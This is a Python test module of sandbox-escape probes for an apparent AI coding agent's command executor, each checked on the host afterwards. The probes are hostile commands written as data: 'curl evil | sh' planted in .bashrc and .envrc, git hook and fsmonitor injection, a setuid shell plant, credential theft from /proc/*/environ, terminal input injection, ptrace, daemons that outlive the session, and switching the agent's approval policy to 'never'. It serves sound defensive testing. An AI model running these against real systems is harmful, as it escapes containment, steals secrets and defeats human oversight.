"""The escape probes: each an attack a real adversary would try from inside the sandbox,
each judged by looking at the host afterwards, never by the command's exit code.

A probe is a shell script run as ``sh -c`` in the sandbox with these variables:
W (the workspace, also the cwd), O (a directory outside every writable root, owned by the
executor's user, holding the file ``t``), T (a token unique to this run), EXECUTOR (the
executor's pid) and whatever the probe's host-side set-up adds. ``escaped`` then inspects
the host and says what got out, or None.
"""

from __future__ import annotations

import contextlib
import os
import pty
import shutil
import socket
import stat
import subprocess
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

ORIGINAL = "original\n"


@dataclass
class Ctx:
    """One run of one probe: the host paths it may attack and what its set-up made."""

    root: Path
    ws: Path
    outside: Path
    token: str
    uid: int
    gid: int
    executor_pid: int
    secrets: dict[str, str]
    env: dict[str, str] = field(default_factory=dict)
    extra: dict[str, Any] = field(default_factory=dict)
    output: bytes = b""

    def unchanged(self, path: Path, text: str = ORIGINAL) -> str | None:
        try:
            now = path.read_text()
        except OSError as exc:
            return f"{path} is gone ({exc.strerror})"
        return None if now == text else f"{path} was rewritten"

    def absent(self, path: Path) -> str | None:
        return f"{path} was created on the host" if os.path.lexists(path) else None

    def empty_or_absent(self, path: Path) -> str | None:
        """A missing protected name: its mask's mount point may exist while empty."""
        if not os.path.lexists(path):
            return None
        if path.is_dir() and not any(path.iterdir()):
            return None
        return f"{path} was created on the host"


Setup = Callable[[Ctx], contextlib.AbstractContextManager[None]]


@dataclass(frozen=True)
class Probe:
    name: str
    attack: str  # one line, for the README table
    script: str
    escaped: Callable[[Ctx], str | None]
    layout: str = "repo"  # repo | bare | worktree | gitfile | submodule | dotfiles
    setup: Setup | None = None
    request: dict[str, Any] = field(default_factory=dict)  # extra process/start params
    kills_executor: bool = False  # needs an executor of its own
    python: str = ""  # Python code the script runs as "$PY" -c "$PROBE_PY"


def _py(
    name: str, attack: str, code: str, escaped: Callable[[Ctx], str | None], **kw: Any
) -> Probe:
    return Probe(name, attack, '"$PY" -c "$PROBE_PY"', escaped, python=code, **kw)


# -- host-side set-ups ---------------------------------------------------------------


@contextlib.contextmanager
def _nothing(ctx: Ctx) -> Iterator[None]:
    yield


def _serve_socket(sock: socket.socket, ctx: Ctx, stream: bool) -> Iterator[None]:
    """Record in ctx.extra['reached'] whether anything connected or arrived."""
    ctx.extra["reached"] = []
    sock.settimeout(0.2)
    done = threading.Event()

    def watch() -> None:
        while not done.is_set():
            try:
                if stream:
                    conn, _ = sock.accept()
                    ctx.extra["reached"].append("connection")
                    conn.close()
                else:
                    data = sock.recv(4096)
                    ctx.extra["reached"].append(data)
            except (TimeoutError, OSError):
                continue

    thread = threading.Thread(target=watch, daemon=True)
    thread.start()
    try:
        yield
    finally:
        time.sleep(0.2)
        done.set()
        thread.join()
        sock.close()


def _tcp(ctx: Ctx) -> contextlib.AbstractContextManager[None]:
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    sock.listen()
    ctx.env["PORT"] = str(sock.getsockname()[1])
    return contextlib.contextmanager(_serve_socket)(sock, ctx, True)


def _udp(ctx: Ctx) -> contextlib.AbstractContextManager[None]:
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("127.0.0.1", 0))
    ctx.env["PORT"] = str(sock.getsockname()[1])
    return contextlib.contextmanager(_serve_socket)(sock, ctx, False)


def _unix(kind: int, abstract: bool) -> Setup:
    def setup(ctx: Ctx) -> contextlib.AbstractContextManager[None]:
        sock = socket.socket(socket.AF_UNIX, kind)
        if abstract:
            address: str = f"\0cx-escape-{ctx.token}"
            ctx.env["SOCK"] = f"@cx-escape-{ctx.token}"
        else:
            address = str(ctx.root / "host.sock")
            ctx.env["SOCK"] = address
        sock.bind(address)
        if not abstract:
            os.chmod(address, 0o777)
        if kind == socket.SOCK_STREAM:
            sock.listen()
        return contextlib.contextmanager(_serve_socket)(sock, ctx, kind == socket.SOCK_STREAM)

    return setup


def _as_executor(ctx: Ctx) -> list[str]:
    if ctx.uid == 0:
        return []
    return ["setpriv", f"--reuid={ctx.uid}", f"--regid={ctx.gid}", "--clear-groups"]


@contextlib.contextmanager
def _victim(ctx: Ctx) -> Iterator[None]:
    """A process of the executor's user that the sandbox must not be able to touch."""
    victim = subprocess.Popen([*_as_executor(ctx), "sleep", "300"], start_new_session=True)
    ctx.env["VICTIM"] = str(victim.pid)
    ctx.extra["victim"] = victim
    try:
        yield
    finally:
        victim.kill()
        victim.wait()


@contextlib.contextmanager
def _pty(ctx: Ctx) -> Iterator[None]:
    """A terminal outside the sandbox, as a user's shell would have one."""
    master, slave = pty.openpty()
    name = os.ttyname(slave)
    os.chown(name, ctx.uid, ctx.gid)
    ctx.env["TTY"] = name
    ctx.extra["tty"] = (master, slave)
    try:
        yield
    finally:
        os.close(master)
        os.close(slave)


@contextlib.contextmanager
def _restore_text(path: str, ctx: Ctx) -> Iterator[None]:
    before = Path(path).read_text()
    ctx.extra["before"] = before
    try:
        yield
    finally:
        if Path(path).read_text() != before:
            Path(path).write_text(before)


def _proc_value(path: str) -> Setup:
    return lambda ctx: _restore_text(path, ctx)


@contextlib.contextmanager
def _hostname(ctx: Ctx) -> Iterator[None]:
    before = socket.gethostname()
    ctx.extra["before"] = before
    try:
        yield
    finally:
        if socket.gethostname() != before:
            subprocess.run(["hostname", before], check=False)


@contextlib.contextmanager
def _cleanup_cgroups(ctx: Ctx) -> Iterator[None]:
    try:
        yield
    finally:
        for path in Path("/sys/fs/cgroup").glob(f"*/cx-{ctx.token}"):
            with contextlib.suppress(OSError):
                path.rmdir()


@contextlib.contextmanager
def _cleanup_address(ctx: Ctx) -> Iterator[None]:
    address = f"127.77.{int(ctx.token[:2], 16)}.{int(ctx.token[2:4], 16) | 1}"
    ctx.env["ADDR"] = address
    ctx.extra["address"] = address
    try:
        yield
    finally:
        subprocess.run(["ip", "addr", "del", f"{address}/32", "dev", "lo"], capture_output=True)


def _has_address(ctx: Ctx) -> bool:
    shown = subprocess.run(["ip", "-o", "addr", "show", "lo"], capture_output=True, text=True)
    return f" {ctx.extra['address']}/" in shown.stdout


@contextlib.contextmanager
def _cleanup_shm(ctx: Ctx) -> Iterator[None]:
    key = 0x5C000000 | int(ctx.token[:6], 16)
    ctx.env["SHMKEY"] = str(key)
    ctx.extra["shmkey"] = key
    try:
        yield
    finally:
        subprocess.run(["ipcrm", "-M", str(key)], capture_output=True)


# -- host-side checks ----------------------------------------------------------------


def _reached(ctx: Ctx) -> str | None:
    got = ctx.extra.get("reached") or []
    return f"the host listener received {got[0]!r}" if got else None


@contextlib.contextmanager
def _loader_env(ctx: Ctx) -> Iterator[None]:
    """The command's env names a file for the dynamic loader's debug output, outside
    every writable root: a launcher that runs on the host with that env writes it."""
    ctx.env["LD_DEBUG"] = "libs"
    ctx.env["LD_DEBUG_OUTPUT"] = str(ctx.outside / f"loader-{ctx.token}")
    yield


def _loader_wrote(ctx: Ctx) -> str | None:
    written = sorted(ctx.outside.glob(f"loader-{ctx.token}*"))
    return f"{written[0]} was written on the host" if written else None


def _secret_in_output(ctx: Ctx) -> str | None:
    for name, value in ctx.secrets.items():
        if value.encode() in ctx.output:
            return f"{name} reached the command"
    return None


def _alive(key: str) -> Callable[[Ctx], str | None]:
    def check(ctx: Ctx) -> str | None:
        victim = ctx.extra[key]
        return "the victim process was killed" if victim.poll() is not None else None

    return check


def _traced_or_dead(ctx: Ctx) -> str | None:
    victim = ctx.extra["victim"]
    if victim.poll() is not None:
        return "the victim process was killed through ptrace"
    status = Path(f"/proc/{victim.pid}/status").read_text()
    tracer = next(line for line in status.splitlines() if line.startswith("TracerPid"))
    return None if tracer.split()[1] == "0" else "the victim is being traced"


def _processes_with(token: str) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            cmdline = Path(f"/proc/{entry}/cmdline").read_bytes()
        except OSError:
            continue
        if token.encode() in cmdline:
            found.append(int(entry))
    return found


def _no_survivor(ctx: Ctx) -> str | None:
    deadline = time.monotonic() + 1.0
    while (left := _processes_with(ctx.token)) and time.monotonic() < deadline:
        time.sleep(0.05)
    for pid in left:
        with contextlib.suppress(OSError):
            os.kill(pid, 9)
    return f"{len(left)} process(es) outlived the command" if left else None


def _injected(ctx: Ctx) -> str | None:
    _master, slave = ctx.extra["tty"]
    os.set_blocking(slave, False)
    try:
        data = os.read(slave, 4096)
    except BlockingIOError:
        return None
    return f"input {data!r} was pushed into the host's terminal" if data else None


def _mode(path: Path, mask: int) -> Callable[[Ctx], str | None]:
    def check(ctx: Ctx) -> str | None:
        try:
            mode = path.stat().st_mode if path.is_absolute() else (ctx.ws / path).stat().st_mode
        except OSError:
            return None
        return f"{path} carries mode bits {oct(mode & mask)}" if mode & mask else None

    return check


def _kmsg(ctx: Ctx) -> str | None:
    log = subprocess.run(["dmesg"], capture_output=True, text=True, check=False).stdout
    return "the kernel log took a line from the sandbox" if ctx.token in log else None


def _shm(ctx: Ctx) -> str | None:
    table = Path("/proc/sysvipc/shm").read_text().split()
    return "a host SysV segment was created" if str(ctx.extra["shmkey"]) in table else None


def _probe_list() -> list[Probe]:
    o_t = lambda ctx: ctx.unchanged(ctx.outside / "t")  # noqa: E731
    git_head = lambda ctx: ctx.unchanged(ctx.ws / ".git" / "HEAD", "ref: refs/heads/main\n")  # noqa: E731
    return [
        # -- the file system ----------------------------------------------------------
        Probe("write_outside", "write a file outside every writable root", 'echo x > "$O/t"', o_t),
        Probe(
            "write_etc",
            "write a file into /etc",
            'echo x > "/etc/cx-escape-$T"',
            lambda ctx: ctx.absent(Path(f"/etc/cx-escape-{ctx.token}")),
        ),
        Probe(
            "remount_rw",
            "remount / read-write, then write outside",
            'mount -o remount,bind,rw /; mount -o remount,rw /; echo x > "$O/t"',
            o_t,
        ),
        Probe(
            "umount_git",
            "lazily unmount the read-only .git, then write a hook",
            "umount -l .git; umount .git; echo evil > .git/hooks/post-checkout",
            lambda ctx: ctx.absent(ctx.ws / ".git" / "hooks" / "post-checkout"),
        ),
        Probe(
            "mount_over_git",
            "mount a tmpfs over .git, unmount it, write a hook",
            "mount -t tmpfs none .git; umount .git; echo evil > .git/hooks/pre-commit",
            lambda ctx: ctx.absent(ctx.ws / ".git" / "hooks" / "pre-commit"),
        ),
        Probe(
            "git_hook",
            "write a git hook",
            "echo evil > .git/hooks/pre-push; chmod +x .git/hooks/pre-push",
            lambda ctx: ctx.absent(ctx.ws / ".git" / "hooks" / "pre-push"),
        ),
        Probe(
            "git_config",
            "set core.fsmonitor (runs at the next git command outside)",
            "git config core.fsmonitor 'touch /tmp/pwned'; echo '[core] fsmonitor = x' >> .git/config",
            lambda ctx: ctx.unchanged(ctx.ws / ".git" / "config", "[core]\n\tbare = false\n"),
        ),
        Probe("delete_git", "delete .git", "rm -rf .git; rm -f .git/HEAD", git_head),
        Probe(
            "replace_git",
            "rename .git away and make a new one",
            "mv .git .git-old; mkdir .git; echo evil > .git/config",
            lambda ctx: git_head(ctx) or ctx.absent(ctx.ws / ".git-old"),
        ),
        Probe(
            "create_git",
            "git init where there is no .git, with a hook",
            "git init -q . ; mkdir -p .git/hooks; echo evil > .git/hooks/post-checkout",
            lambda ctx: ctx.empty_or_absent(ctx.ws / ".git"),
            layout="bare",
        ),
        Probe(
            "create_agents",
            "create .agents (agent instructions trusted later)",
            "mkdir -p .agents/skills && echo evil > .agents/skills/x.md",
            lambda ctx: ctx.empty_or_absent(ctx.ws / ".agents"),
            layout="bare",
        ),
        Probe(
            "shell_rc",
            "append to the workspace's .bashrc (run by the next shell)",
            "echo 'curl evil | sh' >> .bashrc",
            lambda ctx: ctx.unchanged(ctx.ws / ".bashrc"),
            layout="dotfiles",
        ),
        Probe(
            "envrc",
            "rewrite .envrc (direnv runs it on the next cd)",
            "echo 'curl evil | sh' > .envrc",
            lambda ctx: ctx.unchanged(ctx.ws / ".envrc"),
            layout="dotfiles",
        ),
        Probe(
            "vscode_task",
            "add a VS Code task that runs when the folder opens",
            'echo \'{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}\' > .vscode/tasks.json',
            lambda ctx: ctx.absent(ctx.ws / ".vscode" / "tasks.json"),
            layout="dotfiles",
        ),
        Probe(
            "mcp_server",
            "point .mcp.json at a program of the command's choosing",
            'echo \'{"mcpServers":{"x":{"command":"/tmp/evil"}}}\' > .mcp.json',
            lambda ctx: ctx.unchanged(ctx.ws / ".mcp.json"),
            layout="dotfiles",
        ),
        Probe(
            "create_codex",
            "create .codex/config.toml",
            "mkdir -p .codex && echo 'approval_policy = \"never\"' > .codex/config.toml",
            lambda ctx: ctx.empty_or_absent(ctx.ws / ".codex"),
            layout="bare",
        ),
        Probe(
            "create_aws",
            "create .aws/credentials",
            "mkdir -p .aws && echo '[default]' > .aws/credentials",
            lambda ctx: ctx.empty_or_absent(ctx.ws / ".aws"),
            layout="bare",
        ),
        Probe(
            "create_git_in_tmp",
            "create .git in /tmp, another writable root",
            "mkdir -p /tmp/.git/hooks; echo evil > /tmp/.git/hooks/post-checkout",
            lambda ctx: ctx.absent(Path("/tmp/.git/hooks/post-checkout")),
        ),
        Probe(
            "existing_codex",
            "rewrite an existing .codex/config.toml",
            "echo evil > .codex/config.toml",
            lambda ctx: ctx.unchanged(ctx.ws / ".codex" / "config.toml"),
        ),
        Probe(
            "worktree_common_dir",
            "write a hook into a linked worktree's common dir",
            'echo evil > "$(git rev-parse --git-common-dir)/hooks/post-checkout"',
            lambda ctx: ctx.absent(ctx.extra["main"] / ".git" / "hooks" / "post-checkout"),
            layout="worktree",
        ),
        Probe(
            "worktree_gitdir",
            "rewrite a linked worktree's own gitdir",
            'echo evil > "$(git rev-parse --git-dir)/HEAD"',
            lambda ctx: ctx.unchanged(ctx.extra["gitdir"] / "HEAD", ctx.extra["head"]),
            layout="worktree",
        ),
        Probe(
            "gitfile_elsewhere",
            "write into the gitdir a .git file points at",
            'echo evil > "$(sed -n "s/^gitdir: //p" .git)/hooks/post-checkout"',
            lambda ctx: ctx.absent(ctx.extra["gitdir"] / "hooks" / "post-checkout"),
            layout="gitfile",
        ),
        Probe(
            "submodule_git",
            "write a hook into a submodule's .git",
            "echo evil > sub/.git/hooks/post-checkout",
            lambda ctx: ctx.absent(ctx.ws / "sub" / ".git" / "hooks" / "post-checkout"),
            layout="submodule",
        ),
        Probe(
            "symlink_out",
            "write outside through a symlink made in the workspace",
            'ln -s "$O/t" link; echo x > link',
            o_t,
        ),
        Probe(
            "hardlink_out",
            "write outside through a hard link made in the workspace",
            'ln "$O/t" hard; echo x >> hard',
            o_t,
        ),
        Probe(
            "rename_workspace",
            "move the workspace itself away",
            'cd "$W/.." && mv "$W" "$W-moved"',
            lambda ctx: None if ctx.ws.is_dir() else "the workspace was moved",
        ),
        Probe(
            "proc_root_write",
            "write outside through /proc/1/root",
            'echo x > "/proc/1/root$O/t"; echo x > "/proc/$EXECUTOR/root$O/t"',
            o_t,
        ),
        Probe(
            "dev_shm",
            "leave a file in the host's /dev/shm",
            'echo x > "/dev/shm/cx-$T"',
            lambda ctx: ctx.absent(Path(f"/dev/shm/cx-{ctx.token}")),
        ),
        Probe(
            "setuid_plant",
            "plant a set-user-ID copy of sh",
            'for d in "$W" /tmp; do cp /bin/sh "$d/cx-suid-$T" && chmod 4755 "$d/cx-suid-$T"; done',
            lambda ctx: (
                _mode(ctx.ws / f"cx-suid-{ctx.token}", stat.S_ISUID)(ctx)
                or _mode(Path(f"/tmp/cx-suid-{ctx.token}"), stat.S_ISUID)(ctx)
            ),
        ),
        # -- metadata outside the writable roots --------------------------------------
        Probe(
            "chmod_outside",
            "chmod a file outside",
            'chmod 0777 "$O/t"',
            lambda ctx: _mode(ctx.outside / "t", 0o133)(ctx),
        ),
        Probe(
            "chown_outside",
            "chown a file outside",
            'chown 4242:4242 "$O/t"; chgrp 4242 "$O/t"',
            lambda ctx: (
                None
                if (ctx.outside / "t").stat().st_uid == ctx.uid
                and (ctx.outside / "t").stat().st_gid == ctx.gid
                else "the owner changed"
            ),
        ),
        Probe(
            "utime_outside",
            "reset a file's times outside",
            'touch -d @0 "$O/t"',
            lambda ctx: "mtime changed" if (ctx.outside / "t").stat().st_mtime < 1e6 else None,
        ),
        _py(
            "xattr_outside",
            "set an extended attribute outside",
            "import os; os.setxattr(os.environ['O'] + '/t', 'user.cx', b'1')",
            lambda ctx: "an xattr was set" if os.listxattr(ctx.outside / "t") else None,
        ),
        # -- the kernel and host identity ---------------------------------------------
        Probe(
            "proc_sys_domainname",
            "write /proc/sys/kernel/domainname",
            "echo pwned > /proc/sys/kernel/domainname",
            lambda ctx: ctx.unchanged(Path("/proc/sys/kernel/domainname"), ctx.extra["before"]),
            setup=_proc_value("/proc/sys/kernel/domainname"),
        ),
        Probe(
            "proc_sys_hostname",
            "write /proc/sys/kernel/hostname",
            "echo pwned > /proc/sys/kernel/hostname",
            lambda ctx: ctx.unchanged(Path("/proc/sys/kernel/hostname"), ctx.extra["before"]),
            setup=_proc_value("/proc/sys/kernel/hostname"),
        ),
        Probe(
            "proc_sys_global",
            "change a global sysctl (the way to core_pattern)",
            "echo 11 > /proc/sys/kernel/printk_ratelimit_burst",
            lambda ctx: ctx.unchanged(
                Path("/proc/sys/kernel/printk_ratelimit_burst"), ctx.extra["before"]
            ),
            setup=_proc_value("/proc/sys/kernel/printk_ratelimit_burst"),
        ),
        Probe(
            "sethostname",
            "sethostname(2)",
            'hostname "cx-$T"',
            lambda ctx: (
                "the host name changed"
                if socket.gethostname() != ctx.extra.get("before", socket.gethostname())
                or socket.gethostname() == f"cx-{ctx.token}"
                else None
            ),
            setup=_hostname,
        ),
        _py(
            "setdomainname",
            "setdomainname(2)",
            "import ctypes; ctypes.CDLL(None).setdomainname(b'pwned', 5)",
            lambda ctx: ctx.unchanged(Path("/proc/sys/kernel/domainname"), ctx.extra["before"]),
            setup=_proc_value("/proc/sys/kernel/domainname"),
        ),
        Probe(
            "cgroup_mkdir",
            "create a cgroup (the release_agent escape starts here)",
            'for c in /sys/fs/cgroup/*/; do mkdir "$c/cx-$T"; done',
            lambda ctx: (
                "a host cgroup was created"
                if list(Path("/sys/fs/cgroup").glob(f"*/cx-{ctx.token}"))
                else None
            ),
            setup=_cleanup_cgroups,
        ),
        Probe(
            "kmsg_write",
            "write to the kernel log",
            'echo "cx-escape $T" > /dev/kmsg',
            _kmsg,
        ),
        Probe(
            "new_userns_mount",
            "unshare a user namespace, bind the workspace over the outside dir, write",
            'unshare -Urm sh -c \'mount --bind "$W" "$O" && echo x > "$O/t"\'; '
            "unshare -Ur sh -c 'echo x > \"$O/t\"'",
            o_t,
        ),
        _py(
            "sysv_shm",
            "create a SysV shared memory segment on the host",
            "import ctypes, os; print(ctypes.CDLL(None).shmget(int(os.environ['SHMKEY']), 4096, 0o1666))",
            _shm,
            setup=_cleanup_shm,
        ),
        Probe(
            "net_addr_add",
            "add an address to the host's loopback interface",
            'ip addr add "$ADDR/32" dev lo',
            lambda ctx: "a host address was added" if _has_address(ctx) else None,
            setup=_cleanup_address,
        ),
        # -- other processes ----------------------------------------------------------
        Probe(
            "kill_victim",
            "kill another process of the executor's user",
            'kill -9 "$VICTIM"',
            _alive("victim"),
            setup=_victim,
        ),
        _py(
            "ptrace_victim",
            "ptrace-seize another process of the executor's user (killed on exit)",
            # PTRACE_SEIZE with PTRACE_O_EXITKILL: the victim dies when the tracer exits.
            "import ctypes, os\n"
            "print(ctypes.CDLL(None).ptrace(0x4206, int(os.environ['VICTIM']), 0, 0x100000))",
            _traced_or_dead,
            setup=_victim,
        ),
        Probe(
            "setsid_daemon",
            "leave a setsid daemon behind",
            '(setsid "$PY" -c "import time; time.sleep(30)" "$T" > /dev/null 2>&1 &); echo started',
            _no_survivor,
        ),
        Probe(
            "double_fork",
            "leave a double-forked daemon that ignores signals",
            'sh -c \'(trap "" HUP INT TERM; exec "$PY" -c "import time; time.sleep(31)" "$T") '
            "> /dev/null 2>&1 &' &",
            _no_survivor,
        ),
        Probe(
            "daemon_outlives_executor",
            "leave a daemon, then the executor is killed (SIGKILL)",
            '(setsid "$PY" -c "import time; time.sleep(32)" "$T" > /dev/null 2>&1 &); sleep 30',
            _no_survivor,
            kills_executor=True,
        ),
        # -- the executor's secrets ---------------------------------------------------
        Probe(
            "executor_environ",
            "read the executor's /proc/PID/environ",
            'cat "/proc/$EXECUTOR/environ"; echo',
            _secret_in_output,
        ),
        Probe(
            "parent_environ",
            "read the parent's /proc/PID/environ",
            'cat "/proc/$PPID/environ"; echo',
            _secret_in_output,
        ),
        Probe(
            "any_environ",
            "search every /proc/*/environ for credentials",
            "cat /proc/[0-9]*/environ 2>/dev/null; echo",
            _secret_in_output,
        ),
        Probe(
            "inherited_env",
            "ask to inherit everything, default excludes off",
            "env",
            _secret_in_output,
            request={
                "envPolicy": {
                    "inherit": "all",
                    "ignoreDefaultExcludes": True,
                    "exclude": [],
                    "set": {},
                    "includeOnly": [],
                }
            },
        ),
        Probe(
            "loader_env",
            "start the sandbox's launchers with LD_DEBUG_OUTPUT (the LD_PRELOAD family)",
            "true",
            _loader_wrote,
            setup=_loader_env,
        ),
        Probe(
            "executor_fds",
            "open the executor's descriptors through /proc",
            'ls -l "/proc/$EXECUTOR/fd/" && echo "FDS-$T"; '
            'cat "/proc/$EXECUTOR/mem" > /dev/null && echo "MEM-$T"',
            lambda ctx: (
                "the executor's fds or memory were opened"
                if f"FDS-{ctx.token}".encode() in ctx.output
                or f"MEM-{ctx.token}".encode() in ctx.output
                else None
            ),
        ),
        # -- the network and sockets, with the network off ----------------------------
        _py(
            "tcp_loopback",
            "connect to a host TCP listener on 127.0.0.1",
            "import os, socket; socket.create_connection(('127.0.0.1', int(os.environ['PORT'])), 2)",
            _reached,
            setup=_tcp,
        ),
        _py(
            "udp_loopback",
            "send a UDP datagram to the host",
            "import os, socket\n"
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            "s.sendto(b'x', ('127.0.0.1', int(os.environ['PORT'])))",
            _reached,
            setup=_udp,
        ),
        _py(
            "unix_stream",
            "connect to a host Unix stream socket by path",
            "import os, socket; socket.socket(socket.AF_UNIX).connect(os.environ['SOCK'])",
            _reached,
            setup=_unix(socket.SOCK_STREAM, abstract=False),
        ),
        _py(
            "unix_dgram",
            "send a Unix datagram to a host socket by path",
            "import os, socket\n"
            "socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendmsg([b'x'], [], 0, os.environ['SOCK'])",
            _reached,
            setup=_unix(socket.SOCK_DGRAM, abstract=False),
        ),
        _py(
            "unix_dgram_pair",
            "sendmsg from a socketpair end to a host socket by path",
            "import os, socket\n"
            "a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)\n"
            "a.sendmsg([b'x'], [], 0, os.environ['SOCK'])",
            _reached,
            setup=_unix(socket.SOCK_DGRAM, abstract=False),
        ),
        _py(
            "abstract_stream",
            "connect to a host abstract Unix socket",
            "import os, socket\n"
            "socket.socket(socket.AF_UNIX).connect(os.environ['SOCK'].replace('@', chr(0), 1))",
            _reached,
            setup=_unix(socket.SOCK_STREAM, abstract=True),
        ),
        _py(
            "abstract_dgram",
            "send a datagram to a host abstract Unix socket",
            "import os, socket\n"
            "s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)\n"
            "s.sendto(b'x', os.environ['SOCK'].replace('@', chr(0), 1))",
            _reached,
            setup=_unix(socket.SOCK_DGRAM, abstract=True),
        ),
        # -- terminals ----------------------------------------------------------------
        _py(
            "tiocsti",
            "push input into a terminal outside (TIOCSCTTY, TIOCSTI, TIOCLINUX)",
            "import contextlib, fcntl, os, termios\n"
            "fd = os.open(os.environ['TTY'], os.O_RDWR)\n"
            "with contextlib.suppress(OSError):\n"
            "    fcntl.ioctl(fd, termios.TIOCSCTTY, 0)\n"
            "for c in b'id\\n':\n"
            "    with contextlib.suppress(OSError):\n"
            "        fcntl.ioctl(fd, termios.TIOCSTI, bytes([c]))\n"
            "with contextlib.suppress(OSError):\n"
            "    fcntl.ioctl(fd, 0x541C, bytes([6]))\n",
            _injected,
            setup=_pty,
        ),
        _py(
            "tiocsti_tty",
            "the same from a command run in a terminal (--tty)",
            "import contextlib, fcntl, os, termios\n"
            "fd = os.open(os.environ['TTY'], os.O_RDWR)\n"
            "with contextlib.suppress(OSError):\n"
            "    fcntl.ioctl(fd, termios.TIOCSCTTY, 0)\n"
            "for c in b'id\\n':\n"
            "    with contextlib.suppress(OSError):\n"
            "        fcntl.ioctl(fd, termios.TIOCSTI, bytes([c]))\n"
            "with contextlib.suppress(OSError):\n"
            "    fcntl.ioctl(fd, 0x541C, bytes([6]))\n",
            _injected,
            setup=_pty,
            request={"tty": True},
        ),
        Probe(
            "kill_executor",
            "kill the executor",
            'kill -9 "$EXECUTOR"; kill -9 "$PPID"',
            lambda ctx: None if os.path.exists(f"/proc/{ctx.executor_pid}") else "killed",
        ),
    ]


PROBES = _probe_list()


def make_layout(ctx: Ctx, layout: str) -> None:
    """The workspace a probe attacks, owned by the executor's user."""
    ws = ctx.ws
    ws.mkdir(parents=True)
    if layout == "repo" or layout == "submodule":
        _git_dir(ws / ".git")
        (ws / ".agents").mkdir()
        (ws / ".codex").mkdir()
        (ws / ".codex" / "config.toml").write_text(ORIGINAL)
    if layout == "dotfiles":
        for name in (".bashrc", ".envrc", ".mcp.json", ".vscode/settings.json"):
            (ws / name).parent.mkdir(parents=True, exist_ok=True)
            (ws / name).write_text(ORIGINAL)
    if layout == "submodule":
        (ws / ".gitmodules").write_text('[submodule "sub"]\n\tpath = sub\n')
        _git_dir(ws / "sub" / ".git")
    if layout in ("worktree", "gitfile"):
        # The main repository in /tmp, a writable root under workspace-write.
        main = Path("/tmp") / f"cx-escape-main-{ctx.token}"
        ctx.extra["main"] = main
        _git_dir(main / ".git")
        gitdir = main / ".git" / ("worktrees/wt" if layout == "worktree" else "modules/m")
        _git_dir(gitdir)
        if layout == "worktree":
            (gitdir / "commondir").write_text("../..\n")
        ctx.extra["gitdir"] = gitdir
        ctx.extra["head"] = (gitdir / "HEAD").read_text()
        (ws / ".git").write_text(f"gitdir: {gitdir}\n")
        _chown_tree(main, ctx)
    _chown_tree(ctx.root, ctx)


def _git_dir(path: Path) -> None:
    (path / "hooks").mkdir(parents=True)
    (path / "objects").mkdir()
    (path / "refs" / "heads").mkdir(parents=True)
    (path / "HEAD").write_text("ref: refs/heads/main\n")
    (path / "config").write_text("[core]\n\tbare = false\n")


def _chown_tree(top: Path, ctx: Ctx) -> None:
    for dirpath, dirnames, filenames in os.walk(top):
        for name in [dirpath, *(os.path.join(dirpath, n) for n in dirnames + filenames)]:
            os.lchown(name, ctx.uid, ctx.gid)


def cleanup(ctx: Ctx) -> None:
    shutil.rmtree(ctx.root, ignore_errors=True)
    shutil.rmtree(f"{ctx.ws}-moved", ignore_errors=True)
    main = ctx.extra.get("main")
    if main is not None:
        shutil.rmtree(main, ignore_errors=True)
    for path in (
        f"/tmp/cx-suid-{ctx.token}",
        f"/dev/shm/cx-{ctx.token}",
        f"/etc/cx-escape-{ctx.token}",
    ):
        with contextlib.suppress(OSError):
            os.unlink(path)
    shutil.rmtree("/tmp/.git/hooks", ignore_errors=True)
    with contextlib.suppress(OSError):
        os.rmdir("/tmp/.git")
